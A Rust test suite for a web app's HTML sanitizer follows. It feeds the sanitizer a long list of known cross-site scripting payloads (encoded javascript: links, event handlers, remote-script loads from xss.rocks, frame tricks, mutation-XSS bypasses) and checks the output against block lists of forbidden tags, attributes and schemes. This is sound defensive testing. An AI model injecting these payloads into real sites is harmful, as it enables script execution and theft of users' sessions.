//! Post bodies against known cross-site scripting payloads.
//!
//! Every body is cleaned by [`clean_body`] before it is stored and again by [`safe_body`] when it
//! is shown. The payloads below come from the OWASP XSS filter evasion cheat sheet, the PortSwigger
//! XSS cheat sheet and published mutation-XSS bypasses of HTML sanitizers (namespace confusion
//! through `svg`, `math`, `noscript`, `style` and `template`). None of them may leave anything in
//! a cleaned body that a browser would run, cleaning a cleaned body again must not create anything
//! either, and must give back the same text.
//!
//! The checks read the serialized output without parsing it as a browser would: the serializer
//! escapes `<` and `>` everywhere except in markup, so every `<` in a cleaned body starts a tag.
//!
//! The formatting the editor produces, and relative links and images, must come through intact.

use app::html::{clean_body, safe_body};

/// Known XSS payloads; each carries `alert(1)`, `xss` or the like in the part that would run.
const PAYLOADS: &[&str] = &[
    // Plain scripts, upper case and broken-up tags.
    r#"<script>alert(1)</script>"#,
    r#"<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>"#,
    r#"<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#,
    r#"<SCRIPT SRC=http://xss.rocks/xss.js?< B >"#,
    r#"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#,
    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
    "<scr\0ipt>alert(1)</scr\0ipt>",
    r#"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#,
    // `javascript:` addresses, plain and encoded.
    r#"<IMG SRC="javascript:alert('XSS');">"#,
    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
    r#"<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>"#,
    r#"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"#,
    r#"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"#,
    r#"<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>"#,
    r#"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"#,
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    r#"<IMG SRC="jav&#x09;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0A;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0D;ascript:alert('XSS');">"#,
    r#"<IMG SRC=" &#14;  javascript:alert('XSS');">"#,
    r#"<IMG SRC="javascript:alert('XSS')""#,
    r#"<a href="javascript:alert(1)">xss</a>"#,
    r#"<A HREF="JAVASCRIPT:alert(1)">XSS</A>"#,
    r#"<a href=" javascript:alert(1)">xss</a>"#,
    r#"<a href="&#x20;javascript:alert(1)">xss</a>"#,
    "<a href=\"\u{1}javascript:alert(1)\">xss</a>",
    "<a href=\"java\nscript:alert(1)\">xss</a>",
    "<a href=\"java\0script:alert(1)\">xss</a>",
    r#"<a href="&#106;avascript:alert(1)">xss</a>"#,
    r#"<a href="&#x6A;avascript:alert(1)">xss</a>"#,
    r#"<a href="&#0000106avascript:alert(1)">xss</a>"#,
    r#"<a href="jav&#x09;ascript:alert(1)">xss</a>"#,
    r#"<a href="jav&Tab;ascript:alert(1)">xss</a>"#,
    r#"<a href="java&NewLine;script:alert(1)">xss</a>"#,
    r#"<a href="javas&#99;ript:alert(1)">xss</a>"#,
    r#"<a href="javascript&#58;alert(1)">xss</a>"#,
    r#"<a href="javascript&#x3A;alert(1)">xss</a>"#,
    r#"<a href="javascript&colon;alert(1)">xss</a>"#,
    r#"<a href="%6Aavascript:alert(1)">xss</a>"#,
    r#"<a href="javascript:void(0)" onclick="alert(1)">xss</a>"#,
    // Other schemes that run code.
    r#"<IMG SRC='vbscript:msgbox("XSS")'>"#,
    r#"<a href="vbscript:msgbox('xss')">xss</a>"#,
    r#"<a href="data:text/html,<script>alert(1)</script>">xss</a>"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss</a>"#,
    r#"<a href="DATA:text/html,<script>alert(1)</script>">xss</a>"#,
    r#"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#,
    // Event handlers.
    r#"<img src=x onerror=alert(1)>"#,
    r#"<img src=x onerror=alert(1)//"#,
    r#"<IMG SRC=# onmouseover="alert('xxs')">"#,
    r#"<IMG SRC= onmouseover="alert('xxs')">"#,
    r#"<IMG onmouseover="alert('xxs')">"#,
    r#"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#,
    r#"<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">"#,
    r#"<img src=x:alert(alt) onerror=eval(src) alt=0>"#,
    "<img src=x o\0nerror=alert(1)>",
    "<img src=x\0onerror=alert(1)>",
    r#"<img/src="x"/onerror=alert(1)>"#,
    r#"<a onmouseover="alert(1)">xss link</a>"#,
    r#"<BODY ONLOAD=alert('XSS')>"#,
    r#"<body onload=alert(1)>"#,
    r#"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
    r#"<details open ontoggle=alert(1)>"#,
    r#"<video><source onerror="alert(1)"></video>"#,
    r#"<video src=x onerror=alert(1)></video>"#,
    r#"<audio src=x onerror=alert(1)></audio>"#,
    r#"<video poster=javascript:alert(1)//></video>"#,
    r#"<video><source src="javascript:alert(1)"></video>"#,
    r#"<p onclick="alert(1)" id="content" class="site-header wp-block">xss</p>"#,
    r#"<h2 onmouseover=alert(1)>xss</h2>"#,
    r#"<isindex type=image src=1 onerror=alert(1)>"#,
    r#"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#,
    r#"<marquee onstart=alert(1)>xss</marquee>"#,
    // Frames.
    r#"<iframe src="javascript:alert(1)"></iframe>"#,
    r#"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    r#"<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>"#,
    r#"<iframe src="data:text/html,<script>alert(1)</script>"></iframe>"#,
    r#"<iframe src="https://www.youtube.com.evil.example/embed/x" onload="alert(1)"></iframe>"#,
    r#"<iframe src="https://www.youtube.com@evil.example/embed/xss"></iframe>"#,
    r#"<iframe src="https://player.vimeo.com.evil.example/video/1?xss"></iframe>"#,
    r#"<iframe src="//www.youtube.com/embed/x" onload=alert(1)></iframe>"#,
    r#"<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>"#,
    r#"<iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-top-navigation allow-popups-to-escape-sandbox" onload="alert(1)"></iframe>"#,
    r#"<iframe src=http://xss.rocks/scriptlet.html <"#,
    r#"<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>"#,
    // Plugins, base addresses, refreshes, forms.
    r#"<object data="javascript:alert(1)"></object>"#,
    r#"<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>"#,
    r#"<embed src="javascript:alert(1)">"#,
    r#"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always" name="xss"></EMBED>"#,
    r#"<BASE HREF="javascript:alert('XSS');//">"#,
    r#"<base href="https://xss.rocks/"><script src="/xss.js"></script>"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">"#,
    r#"<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">"#,
    r#"<form action="javascript:alert(1)"><input type=submit value=xss></form>"#,
    r#"<form><button formaction="javascript:alert(1)">xss</button></form>"#,
    r#"<form id="test"></form><button form="test" formaction="javascript:alert(1)">xss</button>"#,
    // Style sheets and style attributes.
    r#"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    r#"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"#,
    r#"<style>@import "javascript:alert(1)";</style>"#,
    r#"<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>"#,
    r#"<STYLE TYPE="text/javascript">alert('XSS');</STYLE>"#,
    r#"<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>"#,
    r#"<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">"#,
    r#"<XSS STYLE="xss:expression(alert('XSS'))">"#,
    r#"<DIV STYLE="background-image: url(javascript:alert('XSS'))">"#,
    r#"<DIV STYLE="width: expression(alert('XSS'));">"#,
    r#"<p style="background:url(javascript:alert(1))">xss</p>"#,
    r#"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#,
    r#"<link rel=import href="data:text/html,<script>alert(1)</script>">"#,
    r#"<BODY BACKGROUND="javascript:alert('XSS')">"#,
    r#"<TABLE BACKGROUND="javascript:alert('XSS')">"#,
    r#"<TABLE><TD BACKGROUND="javascript:alert('XSS')">"#,
    r#"<IMG DYNSRC="javascript:alert('XSS')">"#,
    r#"<IMG LOWSRC="javascript:alert('XSS')">"#,
    r#"<BGSOUND SRC="javascript:alert('XSS');">"#,
    // SVG and MathML.
    r#"<svg/onload=alert('XSS')>"#,
    r#"<svg><script>alert(1)</script></svg>"#,
    r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">xss</text></a></svg>"#,
    r#"<svg><animate onbegin=alert(1) attributeName=x dur=1s>"#,
    r#"<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>xss</text></a></svg>"#,
    r#"<svg><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
    r#"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">xss</maction></math>"#,
    r#"<math href="javascript:alert(1)">xss</math>"#,
    r#"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"#,
    // Mutation XSS: markup that changes meaning when parsed again or in another namespace.
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    r#"<svg><style><img src=x onerror=alert(1)></style></svg>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
    r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#,
    r#"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></mtext></svg></mglyph></h1></mtext></math>"#,
    r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
    r#"<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"#,
    r#"<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">"#,
    r#"<template><script>alert(1)</script></template>"#,
    r#"<template><img src=x onerror=alert(1)></template>"#,
    r#"<xmp><p title="</xmp><img src=x onerror=alert(1)>">"#,
    r#"<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>"#,
    r#"<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>"#,
    r#"<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>"#,
    r#"<title><img title="</title><img src=x onerror=alert(1)>"></title>"#,
    r#"<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>"#,
    r#"<style><img src="</style><img src=x onerror=alert(1)//">"#,
    r#"<plaintext><img src=x onerror=alert(1)>"#,
    r#"<!--<img src="--><img src=x onerror=alert(1)//">"#,
    r#"<![CDATA[<img src=x onerror=alert(1)>]]>"#,
    r#"<a href="https://example.org/" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">xss</a>"#,
    r#"<pre><img src=x onerror=alert(1)></pre>"#,
    "<p>xss</p>\n\n<img src=x onerror=alert(1)>\n<svg onload=alert(1)>",
    // Attributes the allow-list knows, with addresses that run code.
    r#"<blockquote cite="javascript:alert(1)">xss</blockquote>"#,
    r#"<img src="https://example.org/x.png" srcset="javascript:alert(1) 1x" alt="xss">"#,
    r#"<img src=x id="post-x" onerror=alert(1)>"#,
];

/// Addresses a frame may keep, as the allow-list in `app/src/html.rs` has them.
const FRAME_SOURCES: [&str; 4] = [
    "https://www.youtube.com/embed/",
    "https://www.youtube-nocookie.com/embed/",
    "https://player.vimeo.com/video/",
    "https://www.vimeo.com/video/",
];

/// Elements that must never come out of the sanitizer.
const FORBIDDEN_TAGS: [&str; 26] = [
    "script",
    "svg",
    "math",
    "style",
    "object",
    "embed",
    "base",
    "meta",
    "form",
    "link",
    "applet",
    "frame",
    "template",
    "noscript",
    "noembed",
    "noframes",
    "textarea",
    "xmp",
    "plaintext",
    "title",
    "input",
    "button",
    "isindex",
    "bgsound",
    "marquee",
    "portal",
];

/// Attributes that must never come out of the sanitizer.
const FORBIDDEN_ATTRIBUTES: [&str; 9] = [
    "srcdoc",
    "formaction",
    "style",
    "xlink:href",
    "action",
    "background",
    "dynsrc",
    "lowsrc",
    "http-equiv",
];

/// Schemes that run code or render a document when an address is followed or loaded.
const FORBIDDEN_SCHEMES: [&str; 5] = [
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:image/svg+xml",
];

/// One start or end tag of serialized HTML.
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// The tags of serialized HTML, with attribute names lowercased and values as written.
fn tags(html: &str) -> Vec<Tag> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
            continue;
        }
        let (tag, after) = split_tag(rest);
        rest = after;
        found.push(parse_tag(tag));
    }
    found
}

/// The text of a tag up to its closing `>` (outside quotes), and what follows it.
fn split_tag(text: &str) -> (&str, &str) {
    let mut quote = None;
    for (at, c) in text.char_indices() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), _) if open == c => quote = None,
            (None, '>') => return (&text[..at], &text[at + 1..]),
            _ => {}
        }
    }
    (text, "")
}

fn parse_tag(tag: &str) -> Tag {
    let is_end = tag.starts_with('/');
    let tag = tag.trim_start_matches('/');
    let name_end = tag
        .find(|c: char| c.is_whitespace() || c == '/')
        .unwrap_or(tag.len());
    let name = format!(
        "{}{}",
        if is_end { "/" } else { "" },
        tag[..name_end].to_lowercase()
    );
    let mut attributes = Vec::new();
    let mut rest = &tag[name_end..];
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() {
            break;
        }
        let end = rest
            .find(|c: char| c.is_whitespace() || c == '=' || c == '/')
            .unwrap_or(rest.len());
        let attribute = rest[..end].to_lowercase();
        rest = rest[end..].trim_start();
        let mut value = String::new();
        if let Some(after_equals) = rest.strip_prefix('=') {
            let after_equals = after_equals.trim_start();
            match after_equals.chars().next() {
                Some(quote @ ('"' | '\'')) => {
                    let inner = &after_equals[1..];
                    let close = inner.find(quote).unwrap_or(inner.len());
                    value = inner[..close].to_string();
                    rest = inner.get(close + 1..).unwrap_or("");
                }
                _ => {
                    let close = after_equals
                        .find(char::is_whitespace)
                        .unwrap_or(after_equals.len());
                    value = after_equals[..close].to_string();
                    rest = &after_equals[close..];
                }
            }
        }
        attributes.push((attribute, value));
    }
    Tag { name, attributes }
}

/// An attribute value as a browser reads it: character references decoded once.
fn decode(value: &str) -> String {
    const NAMED: [(&str, char); 9] = [
        ("amp", '&'),
        ("lt", '<'),
        ("gt", '>'),
        ("quot", '"'),
        ("apos", '\''),
        ("nbsp", '\u{a0}'),
        ("tab", '\t'),
        ("newline", '\n'),
        ("colon", ':'),
    ];
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        if let Some(number) = rest.strip_prefix('#') {
            let (digits, radix) = match number.strip_prefix(['x', 'X']) {
                Some(hex) => (hex, 16),
                None => (number, 10),
            };
            let len = digits
                .find(|c: char| !c.is_digit(radix))
                .unwrap_or(digits.len());
            if let Some(c) = u32::from_str_radix(&digits[..len], radix)
                .ok()
                .and_then(char::from_u32)
            {
                out.push(c);
                rest = digits[len..].strip_prefix(';').unwrap_or(&digits[len..]);
                continue;
            }
        } else if let Some((name, c)) = NAMED.iter().find(|(name, _)| {
            rest.get(..name.len() + 1)
                .is_some_and(|head| head.eq_ignore_ascii_case(&format!("{name};")))
        }) {
            out.push(*c);
            rest = &rest[name.len() + 1..];
            continue;
        }
        out.push('&');
    }
    out.push_str(rest);
    out
}

/// A decoded value without the whitespace and control characters browsers skip in addresses,
/// lowercased; a list of addresses (`srcset`) stays separated by commas.
fn squeezed(value: &str) -> String {
    decode(value)
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_lowercase()
}

/// Whether the text of a tag (between `<` and `>`) names an event handler: ` on…=` outside the
/// quoted values.
fn has_handler(tag: &str) -> bool {
    let mut outside = String::with_capacity(tag.len());
    let mut quote = None;
    for c in tag.chars() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), _) if open == c => quote = None,
            (None, _) => outside.push(c),
            _ => {}
        }
    }
    let outside = outside.to_lowercase();
    outside.match_indices("on").any(|(at, _)| {
        let before = outside[..at].chars().next_back();
        let name_end = outside[at + 2..]
            .find(|c: char| !c.is_ascii_alphabetic())
            .map_or(outside.len(), |end| at + 2 + end);
        matches!(before, Some(c) if c.is_whitespace() || c == '/')
            && name_end > at + 2
            && outside[name_end..].trim_start().starts_with('=')
    })
}

/// What in a cleaned body could still run, one line per finding; empty when nothing can.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let lower = html.to_lowercase();
    for tag in FORBIDDEN_TAGS {
        if lower.contains(&format!("<{tag}")) || lower.contains(&format!("</{tag}")) {
            found.push(format!("<{tag}> element"));
        }
    }
    let mut rest = lower.as_str();
    while let Some(start) = rest.find('<') {
        let (tag, after) = split_tag(&rest[start + 1..]);
        if has_handler(tag) {
            found.push(format!("event handler in <{tag}>"));
        }
        rest = after;
    }
    for tag in tags(html) {
        for (name, value) in &tag.attributes {
            if name.starts_with("on") {
                found.push(format!("{name} on <{}>", tag.name));
            }
            if FORBIDDEN_ATTRIBUTES.contains(&name.as_str()) {
                found.push(format!("{name} on <{}>", tag.name));
            }
            let value = squeezed(value);
            for scheme in FORBIDDEN_SCHEMES {
                if value.split(',').any(|address| address.starts_with(scheme)) {
                    found.push(format!("{scheme} in {name} on <{}>", tag.name));
                }
            }
        }
        // A frame without an address stays empty; one with an address must show a known player,
        // and every frame must be sandboxed without a way out of the sandbox.
        if tag.name == "iframe" {
            let attribute = |wanted: &str| {
                tag.attributes
                    .iter()
                    .find(|(name, _)| name == wanted)
                    .map(|(_, value)| decode(value))
            };
            if let Some(src) = attribute("src")
                && !FRAME_SOURCES.iter().any(|source| src.starts_with(source))
            {
                found.push(format!("frame of {src}"));
            }
            match attribute("sandbox") {
                None => found.push("frame without sandbox".to_string()),
                Some(sandbox)
                    if sandbox.contains("top-navigation") || sandbox.contains("escape") =>
                {
                    found.push(format!("frame with sandbox {sandbox}"));
                }
                Some(_) => {}
            }
        }
    }
    found
}

#[test]
fn there_are_enough_payloads_and_each_carries_a_marker() {
    assert!(PAYLOADS.len() >= 60, "only {} payloads", PAYLOADS.len());
    // `phnjcmlwdd5` is `<script>` in base64, as in the `data:` payloads.
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let lower = decode(payload).to_lowercase();
        assert!(
            ["alert", "xss", "msgbox", "phnjcmlwdd5"]
                .iter()
                .any(|marker| lower.contains(marker)),
            "payload without a marker: {payload}"
        );
        assert!(
            !PAYLOADS[..at].contains(payload),
            "payload listed twice: {payload}"
        );
    }
}

#[test]
fn the_checks_recognise_what_can_run() {
    for dangerous in [
        r#"<img src="x" onerror="alert(1)">"#,
        r#"<img/onerror=alert(1) src=x>"#,
        r#"<a href="jav&#x09;ascript:alert(1)">x</a>"#,
        r#"<a href="JAVASCRIPT&colon;alert(1)">x</a>"#,
        r#"<a href="data:text/html,x">x</a>"#,
        r#"<img srcset="/a.png 1x, javascript:alert(1) 2x">"#,
        r#"<iframe src="https://evil.example/" sandbox=""></iframe>"#,
        r#"<iframe src="https://www.youtube.com/embed/x"></iframe>"#,
        r#"<iframe srcdoc="x" sandbox=""></iframe>"#,
        r#"<p style="color:red">x</p>"#,
        r#"<SVG><a xlink:href="x">x</a></SVG>"#,
        r#"<button formaction="x">x</button>"#,
    ] {
        assert!(
            !dangers(dangerous).is_empty(),
            "not recognised: {dangerous}"
        );
    }
    for harmless in [
        r#"<p title="x onerror=alert(1)">text</p>"#,
        r#"<p>&lt;script&gt;alert(1)&lt;/script&gt; onerror=alert(1) javascript:alert(1)</p>"#,
        r#"<a href="https://example.org/?q=on">one</a>"#,
        r#"<iframe src="https://player.vimeo.com/video/1" sandbox="allow-scripts"></iframe>"#,
        r#"<img src="/media/1" alt="">"#,
    ] {
        assert_eq!(dangers(harmless), Vec::<String>::new(), "{harmless}");
    }
}

#[test]
fn payloads_leave_nothing_that_can_run() {
    let mut failures = Vec::new();
    for payload in PAYLOADS {
        let cleaned = clean_body(payload);
        let shown = safe_body(payload);
        let cleaned_again = clean_body(&cleaned);
        let shown_again = clean_body(&shown);
        for (how, output) in [
            ("clean_body", &cleaned),
            ("safe_body", &shown),
            ("clean_body twice", &cleaned_again),
            ("clean_body after safe_body", &shown_again),
        ] {
            let found = dangers(output);
            if !found.is_empty() {
                failures.push(format!(
                    "payload: {payload:?}\n  {how}: {output:?}\n  found: {}",
                    found.join("; ")
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} payloads leave something that can run:\n\n{}",
        failures.len(),
        PAYLOADS.len(),
        failures.join("\n\n")
    );
}

#[test]
fn cleaning_a_cleaned_body_changes_nothing() {
    let mut failures = Vec::new();
    for payload in PAYLOADS {
        for (how, output) in [
            ("clean_body", clean_body(payload)),
            ("safe_body", safe_body(payload)),
        ] {
            let again = clean_body(&output);
            if again != output {
                failures.push(format!(
                    "payload: {payload:?}\n  {how}: {output:?}\n  cleaned again: {again:?}"
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} outputs change when cleaned again:\n\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn the_formatting_of_the_editor_survives() {
    let document = concat!(
        "<h2>A heading</h2>",
        "<h3>A smaller heading</h3>",
        "<h4>The smallest heading</h4>",
        "<p>Some <strong>bold</strong>, <b>also bold</b>, <em>italic</em>, <i>also italic</i>, ",
        "<u>underlined</u>, <s>struck</s> and <code>inline code</code> text.</p>",
        "<pre><code>fn main() {\n    println!(\"&lt;hi&gt;\");\n}</code></pre>",
        "<blockquote><p>A quotation.</p></blockquote>",
        "<ul><li><p>First point</p><ul><li><p>Nested point</p></li></ul></li>",
        "<li><p>Second point</p></li></ul>",
        "<ol><li><p>Step one</p></li><li><p>Step two</p><ol><li><p>Sub-step</p></li></ol></li></ol>",
        r#"<p><a target="_blank" rel="noopener noreferrer nofollow" "#,
        r#"href="https://example.org/page?a=1&amp;b=2">a link</a> and "#,
        r#"<a href="mailto:someone@example.org">mail me</a></p>"#,
        r#"<img src="https://example.org/photo.jpg" alt="A photo of the sea">"#,
        "<hr>",
        r#"<iframe width="640" height="360" allowfullscreen="" frameborder="0" "#,
        r#"src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video"></iframe>"#,
        r#"<iframe width="640" height="360" allowfullscreen="" frameborder="0" "#,
        r#"src="https://player.vimeo.com/video/76979871?h=8272103f6e" title="Vimeo video"></iframe>"#,
        "<p>慈溪 in Ningbo: fish &amp; chips &lt;3<br>next line</p>",
    );
    let cleaned = clean_body(document);
    for piece in [
        "<h2>A heading</h2>",
        "<h3>A smaller heading</h3>",
        "<h4>The smallest heading</h4>",
        "<strong>bold</strong>",
        "<b>also bold</b>",
        "<em>italic</em>",
        "<i>also italic</i>",
        "<u>underlined</u>",
        "<s>struck</s>",
        "<code>inline code</code>",
        "<pre><code>fn main() {\n    println!(\"&lt;hi&gt;\");\n}</code></pre>",
        "<blockquote><p>A quotation.</p></blockquote>",
        "<ul><li><p>First point</p><ul><li><p>Nested point</p></li></ul></li>",
        "<li><p>Second point</p></li></ul>",
        "<ol><li><p>Step one</p></li><li><p>Step two</p><ol><li><p>Sub-step</p></li></ol></li></ol>",
        r#"href="https://example.org/page?a=1&amp;b=2""#,
        ">a link</a>",
        r#"href="mailto:someone@example.org""#,
        ">mail me</a>",
        r#"src="https://example.org/photo.jpg""#,
        r#"alt="A photo of the sea""#,
        "<hr>",
        r#"src="https://www.youtube.com/embed/dQw4w9WgXcQ""#,
        r#"src="https://player.vimeo.com/video/76979871?h=8272103f6e""#,
        r#"title="YouTube video""#,
        r#"title="Vimeo video""#,
        "allowfullscreen",
        "sandbox=",
        "慈溪 in Ningbo: fish &amp; chips &lt;3<br>next line",
    ] {
        assert!(cleaned.contains(piece), "{piece:?} missing from {cleaned}");
    }
    assert_eq!(cleaned.matches("<iframe").count(), 2, "{cleaned}");
    assert_eq!(dangers(&cleaned), Vec::<String>::new(), "{cleaned}");
    assert_eq!(clean_body(&cleaned), cleaned);
}

#[test]
fn relative_links_and_images_survive() {
    let body = r#"<p><a href="/posts/x">a post</a> <a href="/tags/rust?page=2#top">a tag</a></p><img src="/media/1" alt="An upload"><p><a href="/media/1"><img src="/media/2" alt=""></a></p>"#;
    for cleaned in [clean_body(body), safe_body(body)] {
        for piece in [
            r#"href="/posts/x""#,
            ">a post</a>",
            r#"href="/tags/rust?page=2#top""#,
            r#"src="/media/1""#,
            r#"alt="An upload""#,
            r#"href="/media/1""#,
            r#"src="/media/2""#,
        ] {
            assert!(cleaned.contains(piece), "{piece:?} missing from {cleaned}");
        }
    }
}
